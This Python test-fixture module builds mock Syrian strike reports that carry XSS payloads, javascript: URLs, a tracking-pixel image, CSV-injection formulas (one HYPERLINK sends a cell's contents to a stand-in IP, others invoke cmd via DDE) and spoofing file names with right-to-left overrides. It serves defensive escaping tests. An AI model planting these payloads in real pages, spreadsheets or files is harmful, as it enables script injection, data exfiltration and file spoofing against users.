"""A hostile corpus built in code: reports whose text and metadata carry payloads.

Every payload, if it ever ran as script, would set ``window.__pwned``; the tests
check that the flag stays unset and that the payload text is still shown as
written. Each report names a real Syrian town next to a strike verb, so that
the payload lands in the quote of an extracted strike event.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd

#: The global a payload would set if it ran.
FLAG = "__pwned"


@dataclass(frozen=True)
class Payload:
    """One hostile string and a short name for test ids.

    ``read`` is the string as the corpus reader gives it from a report's file, where
    that differs: the reader decodes a page's character references once.
    """

    name: str
    text: str
    read: str | None = None

    @property
    def as_read(self) -> str:
        """The payload as it stands in a report read from a file."""
        return self.text if self.read is None else self.read


#: Payloads placed in quotes, titles, sources and the place text of reports.
PAYLOADS: tuple[Payload, ...] = (
    Payload("script", "<script>window.__pwned=1</script>"),
    Payload("img_onerror", '<img src=x onerror="window.__pwned=1">'),
    Payload("close_script", "</script><script>window.__pwned=1</script>"),
    Payload("template_literal", "${window.__pwned=1}"),
    Payload("backticks", "`+(window.__pwned=1)+`"),
    Payload("svg_onload", '"><svg onload=window.__pwned=1>'),
    Payload("attr_break", "' onmouseover='window.__pwned=1' x='"),
    # Written twice escaped: read from a file it is once escaped, and must be shown so.
    Payload(
        "entities",
        "&amp;lt;b&amp;gt;not bold&amp;lt;/b&amp;gt; &amp;amp; &amp;#96; &amp;quot;",
        read="&lt;b&gt;not bold&lt;/b&gt; &amp; &#96; &quot;",
    ),
    Payload("backslash", "\\`\\${window.__pwned=1}\\"),
    Payload("iframe_srcdoc", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    Payload("markdown_image", "![pixel](http://203.0.113.7/pixel.png)"),
    Payload("markdown_link", "[click me](javascript:window.__pwned=1)"),
)

#: A front-matter URL that must never become a link.
JAVASCRIPT_URL = "javascript:window.__pwned=1"
#: Right-to-left text (Arabic) that must be kept as written.
ARABIC = "قصفت طائرات حربية روسية بلدة تلبيسة صباح اليوم"
#: Real towns the gazetteer knows, one per report.
TOWNS = (
    "Talbiseh",
    "Rastan",
    "Kafranbel",
    "Saraqib",
    "Jisr al-Shughur",
    "Maarat al-Numan",
    "Khan Shaykhun",
    "Palmyra",
    "Raqqa",
    "Deir ez-Zor",
    "Douma",
    "Manbij",
)
#: Uploaded file names that carry payloads.
HOSTILE_FILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=window.__pwned=1>.txt",
    "${window.__pwned=1}`.txt",
    "![pixel](http:\\\\203.0.113.7\\pixel.png).txt",
)


@dataclass(frozen=True)
class Report:
    """One report file of the hostile corpus."""

    file_name: str
    payload: Payload
    town: str
    text: str


def front_matter(title: str, source: str, url: str, published: str = "2015-10-09") -> str:
    """Return a YAML-style front-matter block."""
    return f"---\npublished: {published}\ntitle: {title}\nsource: {source}\nurl: {url}\n---\n"


def reports() -> list[Report]:
    """Return the hostile reports: one per payload, plus RTL and very long quotes.

    Titles and sources carry the payload; every other report's URL is a
    ``javascript:`` URL and the rest a valid ``https`` URL, so both kinds of
    source link appear.
    """
    out: list[Report] = []
    for i, (payload, town) in enumerate(zip(PAYLOADS, TOWNS, strict=True)):
        url = JAVASCRIPT_URL if i % 2 == 0 else f"https://example.org/report-{i}"
        body = (
            f"Russian jets struck {town} {payload.text} today, activists said.\n\n"
            f"The Syrian Observatory said the raid on {town} killed several people.\n"
        )
        text = front_matter(f"Title {payload.text}", f"Source {payload.text}", url) + body
        out.append(Report(f"{i:02d}_{payload.name}.txt", payload, town, text))
    long_quote = "Russian jets struck Homs " + "<b>again</b> and again, " * 400 + "today."
    out.append(
        Report(
            "90_long.txt",
            Payload("long", "<b>again</b>"),
            "Homs",
            front_matter("Long", "Wire", "https://example.org/long") + long_quote + "\n",
        )
    )
    for j, name in enumerate(HOSTILE_FILE_NAMES[:2]):
        town = ("Aleppo", "Hama")[j]
        text = front_matter("Named", "Wire", "https://example.org/named")
        out.append(
            Report(name, Payload(f"file_name_{j}", name), town, text + f"Jets struck {town}.\n")
        )
    arabic = f"Russian jets struck Idlib today. {ARABIC} <script>window.__pwned=1</script>.\n"
    out.append(
        Report(
            "91_arabic.txt",
            Payload("arabic", ARABIC),
            "Idlib",
            front_matter(f"تقرير {ARABIC}", "عنب بلدي", "https://example.org/ar") + arabic,
        )
    )
    return out


def with_hostile_places(events: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """Put payloads in the place text of events (the gazetteer only ever finds real names).

    The place as written of event ``i`` becomes payload ``i``; the normalised
    place name stays, so the popup shows both.
    """
    out = events.copy()
    column = out.columns.get_loc("place_as_written")
    for i, payload in enumerate(PAYLOADS[: len(out)]):
        out.iloc[i, column] = f"{out.iloc[i, column]} {payload.text}"
    return out


def write_corpus(folder: Path) -> list[Report]:
    """Write the hostile reports into ``folder`` (created if needed); return them."""
    folder.mkdir(parents=True, exist_ok=True)
    written = reports()
    for report in written:
        (folder / report.file_name).write_text(report.text, encoding="utf-8")
    return written


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"); each must be written
#: to a CSV with a single quote in front.
FORMULA_PAYLOADS: tuple[Payload, ...] = (
    Payload("hyperlink", '=HYPERLINK("http://203.0.113.7/?"&A2,"source")'),
    Payload("dde_plus", "+cmd|' /C calc'!A0"),
    Payload("dde_minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("tab", "\t=1+1"),
    Payload("carriage_return", "\r=1+1"),
)
#: File names with control characters that must be escaped in every message: ESC (a terminal
#: escape sequence), a C1 control (CSI), a right-to-left override and a bidi isolate.
CONTROL_FILE_NAMES: tuple[str, ...] = (
    "esc\x1b[2J.txt",
    "csi\x9b2J.txt",
    "gnp\u202etxt.exe.txt",
    "\u2066isolate\u2069.txt",
)
